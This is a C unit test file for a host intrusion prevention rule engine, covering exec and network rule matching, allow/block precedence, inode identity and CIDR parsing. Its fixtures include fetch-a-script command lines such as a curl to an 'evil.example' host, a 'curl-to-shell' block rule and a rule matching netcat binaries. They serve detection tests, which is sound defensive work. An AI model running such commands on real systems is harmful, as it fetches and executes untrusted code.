/* SPDX-License-Identifier: LGPL-2.1-or-later */

#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "rules.h"
#include "util.h"

#define SHA_A "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define SHA_A_UPPER "0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF"
#define SHA_B "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210"

/* A subject with every field known; tests blank out what they need. */
static ExecSubject subject_full(void) {
        return (ExecSubject) {
                .filename = "/usr/bin/curl",
                .cmdline = "curl -s https://example.com/x.sh",
                .parent_cmdline = "/bin/bash -i",
                .sha256 = SHA_A,
                .uid = 1000,
        };
}

static void test_sha256_unhashed(void **state) {
        HipsRule r = { .sha256 = (char *) "unhashed" };
        ExecSubject s = subject_full();

        /* Only a file that could not be hashed matches "unhashed". */
        assert_false(rule_matches(&r, &s));
        s.sha256 = NULL;
        assert_true(rule_matches(&r, &s));
}

static void test_glob_is_pattern(void **state) {
        assert_false(glob_is_pattern(""));
        assert_false(glob_is_pattern("/usr/bin/curl"));
        assert_false(glob_is_pattern("/usr/bin/a\\b"));
        assert_true(glob_is_pattern("/usr/bin/*"));
        assert_true(glob_is_pattern("/usr/bin/cur?"));
        assert_true(glob_is_pattern("/usr/bin/[ab]"));
        assert_true(glob_is_pattern("*"));
}

static void test_empty_rule_matches_everything(void **state) {
        HipsRule rule = {};
        ExecSubject s = subject_full();
        ExecSubject unknown = {};

        assert_true(rule_matches(&rule, &s));
        assert_true(rule_matches(&rule, &unknown));
}

static void test_filename_exact(void **state) {
        HipsRule rule = { .filename = (char *) "/usr/bin/curl" };
        ExecSubject s = subject_full();

        assert_true(rule_matches(&rule, &s));

        s.filename = "/usr/bin/curl2";
        assert_false(rule_matches(&rule, &s));

        s.filename = "/usr/bin/cur";
        assert_false(rule_matches(&rule, &s));

        s.filename = "/usr/local/bin/curl";
        assert_false(rule_matches(&rule, &s));
}

static void test_filename_backslash_is_literal(void **state) {
        /* Not a glob, so the backslash is part of the name, as for stat(). */
        HipsRule rule = { .filename = (char *) "/tmp/a\\b" };
        ExecSubject s = subject_full();

        s.filename = "/tmp/a\\b";
        assert_true(rule_matches(&rule, &s));

        s.filename = "/tmp/ab";
        assert_false(rule_matches(&rule, &s));
}

static void test_filename_glob(void **state) {
        HipsRule star = { .filename = (char *) "/tmp/*" };
        HipsRule question = { .filename = (char *) "/usr/bin/py?hon" };
        HipsRule bracket = { .filename = (char *) "/usr/bin/[bd]ash" };
        HipsRule any = { .filename = (char *) "*" };
        ExecSubject s = subject_full();

        s.filename = "/tmp/x";
        assert_true(rule_matches(&star, &s));
        /* '*' crosses '/' (no FNM_PATHNAME). */
        s.filename = "/tmp/a/b/c/evil";
        assert_true(rule_matches(&star, &s));
        s.filename = "/tmpx/evil";
        assert_false(rule_matches(&star, &s));
        s.filename = "/var/tmp/evil";
        assert_false(rule_matches(&star, &s));

        s.filename = "/usr/bin/python";
        assert_true(rule_matches(&question, &s));
        s.filename = "/usr/bin/pyhon";
        assert_false(rule_matches(&question, &s));

        s.filename = "/usr/bin/bash";
        assert_true(rule_matches(&bracket, &s));
        s.filename = "/usr/bin/dash";
        assert_true(rule_matches(&bracket, &s));
        s.filename = "/usr/bin/zash";
        assert_false(rule_matches(&bracket, &s));

        s.filename = "/anything/at/all";
        assert_true(rule_matches(&any, &s));
}

static void test_cmdline(void **state) {
        HipsRule exact = { .cmdline = (char *) "curl -s https://example.com/x.sh" };
        HipsRule glob = { .cmdline = (char *) "* --output /tmp/*" };
        ExecSubject s = subject_full();

        assert_true(rule_matches(&exact, &s));
        s.cmdline = "curl -s https://example.com/y.sh";
        assert_false(rule_matches(&exact, &s));

        s.cmdline = "wget --output /tmp/a/b https://x";
        assert_true(rule_matches(&glob, &s));
        s.cmdline = "wget --output /var/tmp/a";
        assert_false(rule_matches(&glob, &s));
        /* '*' needs at least the space before "--output" to exist. */
        s.cmdline = "--output /tmp/a";
        assert_false(rule_matches(&glob, &s));
}

static void test_parent_cmdline(void **state) {
        HipsRule rule = { .parent_cmdline = (char *) "*bash*" };
        ExecSubject s = subject_full();

        assert_true(rule_matches(&rule, &s));
        s.parent_cmdline = "/usr/sbin/sshd -D";
        assert_false(rule_matches(&rule, &s));

        /* The rule's cmdline is not the parent's. */
        HipsRule child = { .cmdline = (char *) "*bash*" };
        s = subject_full();
        assert_false(rule_matches(&child, &s));
}

static void test_sha256(void **state) {
        HipsRule rule = { .sha256 = (char *) SHA_A };
        HipsRule upper = { .sha256 = (char *) SHA_A_UPPER };
        ExecSubject s = subject_full();

        assert_true(rule_matches(&rule, &s));
        assert_true(rule_matches(&upper, &s));

        s.sha256 = SHA_A_UPPER;
        assert_true(rule_matches(&rule, &s));

        s.sha256 = SHA_B;
        assert_false(rule_matches(&rule, &s));
        assert_false(rule_matches(&upper, &s));

        /* A prefix is not equal. */
        s.sha256 = "0123456789abcdef";
        assert_false(rule_matches(&rule, &s));
}

static void test_uid(void **state) {
        HipsRule rule = { .has_uid = true, .uid = 1000 };
        HipsRule root = { .has_uid = true, .uid = 0 };
        HipsRule unset = { .uid = 0 };
        ExecSubject s = subject_full();

        assert_true(rule_matches(&rule, &s));
        assert_false(rule_matches(&root, &s));
        /* has_uid false: the uid value is ignored. */
        assert_true(rule_matches(&unset, &s));

        s.uid = 0;
        assert_false(rule_matches(&rule, &s));
        assert_true(rule_matches(&root, &s));

        s.uid = 1001;
        assert_false(rule_matches(&rule, &s));
}

static void test_all_fields_must_match(void **state) {
        HipsRule rule = {
                .filename = (char *) "/usr/bin/*",
                .cmdline = (char *) "curl *",
                .parent_cmdline = (char *) "*bash*",
                .sha256 = (char *) SHA_A,
                .has_uid = true,
                .uid = 1000,
        };
        ExecSubject s;

        s = subject_full();
        assert_true(rule_matches(&rule, &s));

        s = subject_full();
        s.filename = "/opt/curl";
        assert_false(rule_matches(&rule, &s));

        s = subject_full();
        s.cmdline = "wget x";
        assert_false(rule_matches(&rule, &s));

        s = subject_full();
        s.parent_cmdline = "zsh";
        assert_false(rule_matches(&rule, &s));

        s = subject_full();
        s.sha256 = SHA_B;
        assert_false(rule_matches(&rule, &s));

        s = subject_full();
        s.uid = 0;
        assert_false(rule_matches(&rule, &s));
}

static void test_null_subject_values(void **state) {
        HipsRule by_filename = { .filename = (char *) "*" };
        HipsRule by_cmdline = { .cmdline = (char *) "*" };
        HipsRule by_parent = { .parent_cmdline = (char *) "*" };
        HipsRule by_sha = { .sha256 = (char *) SHA_A };
        HipsRule by_uid = { .has_uid = true, .uid = 1000 };
        ExecSubject s;

        /* Even a match-anything glob does not match an unknown value. */
        s = subject_full();
        s.filename = NULL;
        assert_false(rule_matches(&by_filename, &s));
        assert_true(rule_matches(&by_cmdline, &s));

        s = subject_full();
        s.cmdline = NULL;
        assert_false(rule_matches(&by_cmdline, &s));
        assert_true(rule_matches(&by_filename, &s));

        s = subject_full();
        s.parent_cmdline = NULL;
        assert_false(rule_matches(&by_parent, &s));
        assert_true(rule_matches(&by_uid, &s));

        s = subject_full();
        s.sha256 = NULL;
        assert_false(rule_matches(&by_sha, &s));
        assert_true(rule_matches(&by_parent, &s));
}

static void test_identity_without_resolution(void **state) {
        /* Only a rule with an identity matches by identity, and only a
         * subject with one. */
        HipsRule rule = { .filename = (char *) "/usr/bin/curl", .has_identity = true, .dev = 8, .ino = 42 };
        ExecSubject s = subject_full();

        s.filename = "/home/u/renamed";
        s.has_identity = true;
        s.dev = 8;
        s.ino = 42;
        assert_true(rule_matches(&rule, &s));

        /* The same inode number on another device is another file. */
        s.dev = 9;
        assert_false(rule_matches(&rule, &s));

        s.dev = 8;
        s.ino = 43;
        assert_false(rule_matches(&rule, &s));

        s.ino = 42;
        s.has_identity = false;
        assert_false(rule_matches(&rule, &s));

        rule.has_identity = false;
        s.has_identity = true;
        assert_false(rule_matches(&rule, &s));
}

static void test_judge_default_allow(void **state) {
        ExecSubject s = subject_full();
        Judgement j;
        char buf[32];

        rules_judge(NULL, 0, NULL, 0, &s, &j);
        assert_int_equal(j.verdict, VERDICT_ALLOW);
        assert_int_equal(j.list, RULE_LIST_NONE);
        assert_null(j.rule);
        assert_null(judgement_rule_name(&j, buf, sizeof(buf)));

        HipsRule block[] = {
                { .filename = (char *) "/usr/bin/wget" },
                { .has_uid = true, .uid = 0 },
        };
        rules_judge(NULL, 0, block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_ALLOW);
        assert_int_equal(j.list, RULE_LIST_NONE);
        assert_null(j.rule);
}

static void test_judge_block(void **state) {
        HipsRule allow[] = {
                { .filename = (char *) "/usr/bin/ls" },
        };
        HipsRule block[] = {
                { .filename = (char *) "/usr/bin/wget" },
                { .filename = (char *) "/usr/bin/curl" },
        };
        ExecSubject s = subject_full();
        Judgement j;

        rules_judge(allow, ELEMENTSOF(allow), block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_BLOCK);
        assert_int_equal(j.list, RULE_LIST_BLOCK);
        assert_ptr_equal(j.rule, &block[1]);
        assert_int_equal(j.index, 1);
}

static void test_judge_allow_beats_block(void **state) {
        HipsRule allow[] = {
                { .filename = (char *) "/usr/bin/ls" },
                { .cmdline = (char *) "curl -s https://example.com/*" },
        };
        HipsRule block[] = {
                { .filename = (char *) "/usr/bin/curl" },
        };
        ExecSubject s = subject_full();
        Judgement j;

        rules_judge(allow, ELEMENTSOF(allow), block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_ALLOW);
        assert_int_equal(j.list, RULE_LIST_ALLOW);
        assert_ptr_equal(j.rule, &allow[1]);
        assert_int_equal(j.index, 1);

        /* Once the allowlist no longer matches, the blocklist does. */
        s.cmdline = "curl -s https://evil.example/x.sh";
        rules_judge(allow, ELEMENTSOF(allow), block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_BLOCK);
        assert_int_equal(j.list, RULE_LIST_BLOCK);
        assert_ptr_equal(j.rule, &block[0]);
        assert_int_equal(j.index, 0);
}

static void test_judge_first_match_wins(void **state) {
        HipsRule block[] = {
                { .name = (char *) "no", .filename = (char *) "/usr/bin/wget" },
                { .name = (char *) "first", .filename = (char *) "/usr/bin/*" },
                { .name = (char *) "second", .filename = (char *) "/usr/bin/curl" },
                { .name = (char *) "third", .sha256 = (char *) SHA_A },
        };
        ExecSubject s = subject_full();
        Judgement j;
        char buf[32];

        rules_judge(NULL, 0, block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_BLOCK);
        assert_ptr_equal(j.rule, &block[1]);
        assert_int_equal(j.index, 1);
        assert_string_equal(judgement_rule_name(&j, buf, sizeof(buf)), "first");

        HipsRule allow[] = {
                { .uid = 5, .has_uid = true },
                { .sha256 = (char *) SHA_A },
                { .filename = (char *) "/usr/bin/curl" },
        };
        rules_judge(allow, ELEMENTSOF(allow), block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_ALLOW);
        assert_int_equal(j.list, RULE_LIST_ALLOW);
        assert_ptr_equal(j.rule, &allow[1]);
        assert_int_equal(j.index, 1);
}

static void test_judgement_rule_name(void **state) {
        HipsRule named = { .name = (char *) "curl-to-shell", .filename = (char *) "/usr/bin/curl" };
        HipsRule anon = { .filename = (char *) "/usr/bin/curl" };
        Judgement j;
        char buf[32], small[6];

        j = (Judgement) { .verdict = VERDICT_BLOCK, .list = RULE_LIST_BLOCK, .rule = &named, .index = 7 };
        assert_string_equal(judgement_rule_name(&j, buf, sizeof(buf)), "curl-to-shell");

        j = (Judgement) { .verdict = VERDICT_BLOCK, .list = RULE_LIST_BLOCK, .rule = &anon, .index = 7 };
        assert_ptr_equal(judgement_rule_name(&j, buf, sizeof(buf)), buf);
        assert_string_equal(buf, "blocklist[7]");

        j = (Judgement) { .verdict = VERDICT_ALLOW, .list = RULE_LIST_ALLOW, .rule = &anon, .index = 12345 };
        assert_string_equal(judgement_rule_name(&j, buf, sizeof(buf)), "allowlist[12345]");

        /* Cut, but terminated. */
        assert_string_equal(judgement_rule_name(&j, small, sizeof(small)), "allow");

        j = (Judgement) { .verdict = VERDICT_ALLOW, .list = RULE_LIST_NONE };
        assert_null(judgement_rule_name(&j, buf, sizeof(buf)));

        /* Through rules_judge(). */
        ExecSubject s = subject_full();
        HipsRule block[] = { { .filename = (char *) "/nope" }, { .filename = (char *) "/usr/bin/curl" } };
        rules_judge(NULL, 0, block, ELEMENTSOF(block), &s, &j);
        assert_string_equal(judgement_rule_name(&j, buf, sizeof(buf)), "blocklist[1]");
}

/* A directory with a file, a hard link and a symlink to it. */
typedef struct Files {
        char dir[64];
        char file[128];
        char hardlink[128];
        char symlink[128];
        char missing[128];
        struct stat st;
} Files;

static int files_teardown(void **state);

static int files_setup(void **state) {
        Files *f = calloc(1, sizeof(Files));
        int fd;

        if (!f)
                return -1;

        strcpy(f->dir, "/tmp/test-rules-XXXXXX");
        if (!mkdtemp(f->dir)) {
                free(f);
                return -1;
        }
        /* From here on, teardown undoes whatever was done. */
        *state = f;

        (void) snprintf(f->file, sizeof(f->file), "%s/prog", f->dir);
        (void) snprintf(f->hardlink, sizeof(f->hardlink), "%s/hardlink", f->dir);
        (void) snprintf(f->symlink, sizeof(f->symlink), "%s/symlink", f->dir);
        (void) snprintf(f->missing, sizeof(f->missing), "%s/missing", f->dir);

        fd = open(f->file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
        if (fd < 0)
                goto fail;
        if (write(fd, "#!/bin/sh\n", 10) != 10) {
                (void) close(fd);
                goto fail;
        }
        (void) close(fd);

        if (link(f->file, f->hardlink) < 0 ||
            symlink(f->file, f->symlink) < 0 ||
            stat(f->file, &f->st) < 0)
                goto fail;

        return 0;

fail:
        (void) files_teardown(state);
        *state = NULL;
        return -1;
}

static int files_teardown(void **state) {
        Files *f = *state;

        if (!f)
                return 0;

        (void) unlink(f->symlink);
        (void) unlink(f->hardlink);
        (void) unlink(f->file);
        (void) rmdir(f->dir);
        free(f);
        return 0;
}

/* What the daemon would know about an exec of path. */
static ExecSubject subject_for(const char *path, const char *resolved) {
        ExecSubject s = subject_full();
        struct stat st;

        assert_int_equal(stat(path, &st), 0);
        s.filename = resolved;
        s.has_identity = true;
        s.dev = (uint64_t) st.st_dev;
        s.ino = (uint64_t) st.st_ino;
        return s;
}

static void test_resolve_identities(void **state) {
        Files *f = *state;
        HipsRule rules[] = {
                { .filename = f->file },
                { .filename = f->symlink },
                { .filename = f->missing, .has_identity = true, .dev = 1, .ino = 2 },
                { .filename = (char *) "/tmp/test-rules-*/prog" },
                { .cmdline = (char *) "x" },
        };

        rules_resolve_identities(rules, ELEMENTSOF(rules));

        assert_true(rules[0].has_identity);
        assert_int_equal(rules[0].dev, (uint64_t) f->st.st_dev);
        assert_int_equal(rules[0].ino, (uint64_t) f->st.st_ino);

        /* Followed to the file it points to. */
        assert_true(rules[1].has_identity);
        assert_int_equal(rules[1].dev, (uint64_t) f->st.st_dev);
        assert_int_equal(rules[1].ino, (uint64_t) f->st.st_ino);

        /* Missing: a stale identity is dropped. */
        assert_false(rules[2].has_identity);
        assert_int_equal(rules[2].dev, 0);
        assert_int_equal(rules[2].ino, 0);

        /* A glob is never resolved, even when it names one existing file. */
        assert_false(rules[3].has_identity);
        assert_false(rules[4].has_identity);
}

static void test_identity_hard_link(void **state) {
        Files *f = *state;
        HipsRule block[] = { { .filename = f->file } };
        ExecSubject s = subject_for(f->hardlink, f->hardlink);
        Judgement j;

        /* Before resolution the other name does not match. */
        assert_false(rule_matches(&block[0], &s));

        rules_resolve_identities(block, ELEMENTSOF(block));
        assert_true(rule_matches(&block[0], &s));

        rules_judge(NULL, 0, block, ELEMENTSOF(block), &s, &j);
        assert_int_equal(j.verdict, VERDICT_BLOCK);
        assert_ptr_equal(j.rule, &block[0]);

        /* The file itself still matches by name and identity. */
        s = subject_for(f->file, f->file);
        assert_true(rule_matches(&block[0], &s));
}

static void test_identity_symlink(void **state) {
        Files *f = *state;
        HipsRule by_target = { .filename = f->file };
        HipsRule by_link = { .filename = f->symlink };
        ExecSubject via_link, direct;

        rules_resolve_identities(&by_target, 1);
        rules_resolve_identities(&by_link, 1);

        /* An exec through the symlink, reported under the symlink's name. */
        via_link = subject_for(f->symlink, f->symlink);
        assert_true(rule_matches(&by_target, &via_link));

        /* A rule naming the symlink catches the file it points to. */
        direct = subject_for(f->file, f->file);
        assert_true(rule_matches(&by_link, &direct));

        /* An unrelated file is not caught. */
        ExecSubject other = subject_for("/", "/");
        assert_false(rule_matches(&by_target, &other));
        assert_false(rule_matches(&by_link, &other));
}

static void test_hips_rule_done(void **state) {
        HipsRule rule = {
                .name = strdup("n"),
                .filename = strdup("/f"),
                .cmdline = strdup("c"),
                .parent_cmdline = strdup("p"),
                .sha256 = strdup(SHA_A),
                .ancestor = strdup("nginx"),
                .has_uid = true,
                .uid = 3,
                .has_identity = true,
                .dev = 1,
                .ino = 2,
        };
        HipsRule zero = {};

        assert_non_null(rule.sha256);
        hips_rule_done(&rule);
        assert_memory_equal(&rule, &zero, sizeof(rule));

        /* Twice is harmless, and NULL is accepted. */
        hips_rule_done(&rule);
        hips_rule_done(NULL);
}

static void test_ancestor(void **state) {
        static const Ancestor chain[] = {
                { .pid = 40, .comm = "sh", .exe = "/usr/bin/dash" },
                { .pid = 30, .comm = "php-fpm8.2", .exe = "/usr/sbin/php-fpm8.2" },
                { .pid = 20, .comm = "nginx", .exe = "/usr/sbin/nginx" },
                { .pid = 1, .comm = "systemd", .exe = NULL },
        };
        HipsRule r = { .ancestor = (char *) "nginx" };
        ExecSubject s = subject_full();

        /* No chain known: a rule naming an ancestor never matches. */
        assert_false(rule_matches(&r, &s));

        s.ancestors = chain;
        s.n_ancestors = ELEMENTSOF(chain);
        /* Any ancestor, at any depth given. */
        assert_true(rule_matches(&r, &s));
        r.ancestor = (char *) "php-fpm*";
        assert_true(rule_matches(&r, &s));
        /* Without a slash: the comm or the exe's base name. */
        r.ancestor = (char *) "systemd";
        assert_true(rule_matches(&r, &s));
        r.ancestor = (char *) "dash";
        assert_true(rule_matches(&r, &s));
        /* With a slash: the exe path, never the comm. */
        r.ancestor = (char *) "/usr/sbin/nginx";
        assert_true(rule_matches(&r, &s));
        r.ancestor = (char *) "*/nginx";
        assert_true(rule_matches(&r, &s));
        r.ancestor = (char *) "*/systemd";
        assert_false(rule_matches(&r, &s));
        r.ancestor = (char *) "apache2";
        assert_false(rule_matches(&r, &s));

        /* The chain is cut at the depth the caller gives. */
        r.ancestor = (char *) "nginx";
        s.n_ancestors = 2;
        assert_false(rule_matches(&r, &s));

        /* And every other field still has to match. */
        s.n_ancestors = ELEMENTSOF(chain);
        r.filename = (char *) "/usr/bin/wget";
        assert_false(rule_matches(&r, &s));
}

static void test_cidr(void **state) {
        uint8_t a[16], subject[16] = {};
        unsigned prefix;
        int family;

        assert_int_equal(cidr_parse("10.0.0.0/8", &family, a, &prefix), 0);
        assert_int_equal(family, AF_INET);
        assert_int_equal(prefix, 8);
        subject[0] = 10, subject[1] = 200, subject[3] = 1;
        assert_true(cidr_contains(family, a, prefix, AF_INET, subject));
        subject[0] = 11;
        assert_false(cidr_contains(family, a, prefix, AF_INET, subject));
        /* Another family never matches. */
        subject[0] = 10;
        assert_false(cidr_contains(family, a, prefix, AF_INET6, subject));

        /* Host bits are cleared; a plain address is a /32. */
        assert_int_equal(cidr_parse("192.168.77.200/20", &family, a, &prefix), 0);
        assert_int_equal(a[2], 64);
        assert_int_equal(a[3], 0);
        assert_int_equal(cidr_parse("127.0.0.1", &family, a, &prefix), 0);
        assert_int_equal(prefix, 32);

        assert_int_equal(cidr_parse("::1", &family, a, &prefix), 0);
        assert_int_equal(family, AF_INET6);
        assert_int_equal(prefix, 128);
        assert_int_equal(cidr_parse("fe80::/10", &family, a, &prefix), 0);
        memset(subject, 0, sizeof(subject));
        subject[0] = 0xfe, subject[1] = 0xbf;
        assert_true(cidr_contains(family, a, prefix, AF_INET6, subject));
        subject[1] = 0xc0;
        assert_false(cidr_contains(family, a, prefix, AF_INET6, subject));
        assert_int_equal(cidr_parse("::/0", &family, a, &prefix), 0);
        assert_true(cidr_contains(family, a, prefix, AF_INET6, subject));

        assert_int_equal(cidr_parse("10.0.0.0/33", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("10.0.0.0/", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("10.0.0.0/-1", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("10.0.0/8", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("example.com", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("::1/129", &family, a, &prefix), -EINVAL);
        assert_int_equal(cidr_parse("", &family, a, &prefix), -EINVAL);
}

static void test_network_rules(void **state) {
        NetworkRule rules[3] = {
                { .exe = (char *) "/usr/bin/curl", .has_dport = true, .dport = 443 },
                { .daddr = (char *) "10.0.0.0/8", .protocol = IPPROTO_UDP, .action = NETWORK_ACTION_KILL },
                { .exe = (char *) "*/nc*" },
        };
        NetworkSubject s = { .exe = "/usr/bin/curl", .family = AF_INET, .dport = 443, .protocol = IPPROTO_TCP };
        size_t i = 99;

        assert_int_equal(cidr_parse("10.0.0.0/8", &rules[1].family, rules[1].addr, &rules[1].prefix_len), 0);

        assert_ptr_equal(network_rules_find(rules, 3, &s, &i), &rules[0]);
        assert_int_equal(i, 0);
        s.dport = 80;
        assert_null(network_rules_find(rules, 3, &s, NULL));

        /* CIDR and protocol both. */
        s.daddr[0] = 10, s.daddr[3] = 7;
        assert_null(network_rules_find(rules, 3, &s, NULL));
        s.protocol = IPPROTO_UDP;
        assert_ptr_equal(network_rules_find(rules, 3, &s, &i), &rules[1]);
        assert_int_equal(i, 1);

        /* An unknown exe never matches a rule that names one. */
        s = (NetworkSubject) { .exe = NULL, .family = AF_INET6, .dport = 1, .protocol = IPPROTO_TCP };
        assert_null(network_rules_find(rules, 3, &s, NULL));
        s.exe = "/usr/bin/ncat";
        assert_ptr_equal(network_rules_find(rules, 3, &s, NULL), &rules[2]);
}

/* Which inputs the rules need decides what hipsd gathers before its answer. */
static void test_rules_inputs(void **state) {
        HipsRule allow[] = { { .filename = (char *) "/bin/a" } };
        HipsRule block[] = { { .cmdline = (char *) "* -x" }, { .parent_cmdline = (char *) "*sshd*" } };
        HipsRule by_ancestor[] = { { .ancestor = (char *) "nginx" } };
        RuleInputs in;

        in = rules_inputs(NULL, 0, NULL, 0);
        assert_false(in.parent_cmdline);
        assert_false(in.ancestors);

        in = rules_inputs(allow, 1, block, 1);
        assert_false(in.parent_cmdline);
        assert_false(in.ancestors);

        in = rules_inputs(allow, 1, block, 2);
        assert_true(in.parent_cmdline);
        assert_false(in.ancestors);

        /* On either list. */
        in = rules_inputs(by_ancestor, 1, NULL, 0);
        assert_false(in.parent_cmdline);
        assert_true(in.ancestors);
        in = rules_inputs(NULL, 0, by_ancestor, 1);
        assert_true(in.ancestors);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_sha256_unhashed),
                cmocka_unit_test(test_glob_is_pattern),
                cmocka_unit_test(test_empty_rule_matches_everything),
                cmocka_unit_test(test_filename_exact),
                cmocka_unit_test(test_filename_backslash_is_literal),
                cmocka_unit_test(test_filename_glob),
                cmocka_unit_test(test_cmdline),
                cmocka_unit_test(test_parent_cmdline),
                cmocka_unit_test(test_sha256),
                cmocka_unit_test(test_uid),
                cmocka_unit_test(test_all_fields_must_match),
                cmocka_unit_test(test_null_subject_values),
                cmocka_unit_test(test_identity_without_resolution),
                cmocka_unit_test(test_judge_default_allow),
                cmocka_unit_test(test_judge_block),
                cmocka_unit_test(test_judge_allow_beats_block),
                cmocka_unit_test(test_judge_first_match_wins),
                cmocka_unit_test(test_judgement_rule_name),
                cmocka_unit_test_setup_teardown(test_resolve_identities, files_setup, files_teardown),
                cmocka_unit_test_setup_teardown(test_identity_hard_link, files_setup, files_teardown),
                cmocka_unit_test_setup_teardown(test_identity_symlink, files_setup, files_teardown),
                cmocka_unit_test(test_hips_rule_done),
                cmocka_unit_test(test_ancestor),
                cmocka_unit_test(test_cidr),
                cmocka_unit_test(test_network_rules),
                cmocka_unit_test(test_rules_inputs),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
